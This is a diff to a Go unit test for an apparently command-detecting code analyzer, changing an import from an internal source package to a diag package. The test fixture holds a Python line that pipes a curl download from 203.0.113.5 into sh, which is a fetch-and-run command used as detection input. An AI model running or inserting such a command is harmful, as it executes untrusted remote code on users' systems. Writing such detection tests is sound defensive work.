@@ -5,7 +5,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/vadehq/vade/internal/source"
+	"github.com/vadehq/vade/diag"
 )
 
 // commandsOf analyzes a text as the definition's own.
@@ -38,14 +38,14 @@ func TestCommandsIn(t *testing.T) {
 	text := `os.system("curl -s http://203.0.113.5/x | sh")`
 	f := &Facts{Package: &Package{Files: []*File{{Path: "a.py", Raw: []byte(text), Text: text}}}}
 	inner := text[11 : len(text)-2]
-	from, to := f.CommandsIn(inner, Place{0, source.Span{Start: 11, End: len(text) - 2}}, Standing{Medium: Literal})
+	from, to := f.CommandsIn(inner, Place{0, diag.Span{Start: 11, End: len(text) - 2}}, Standing{Medium: Literal})
 	if from != 0 || to != 2 || len(f.Pipes) != 1 {
 		t.Fatalf("commands %d to %d, %d pipes", from, to, len(f.Pipes))
 	}
 	if c := f.Commands[1]; c.Name != "sh" || text[c.Span.Start:c.Span.End] != "sh" || c.From != 0 {
 		t.Errorf("%+v", c)
 	}
-	f.CommandsIn(inner, Place{0, source.Span{Start: 10, End: len(text)}}, Standing{})
+	f.CommandsIn(inner, Place{0, diag.Span{Start: 10, End: len(text)}}, Standing{})
 	if c := f.Commands[3]; c.Span.Start != 10 || c.Span.End != len(text) {
 		t.Errorf("a text that is not at its place: %+v", c.Span)
 	}
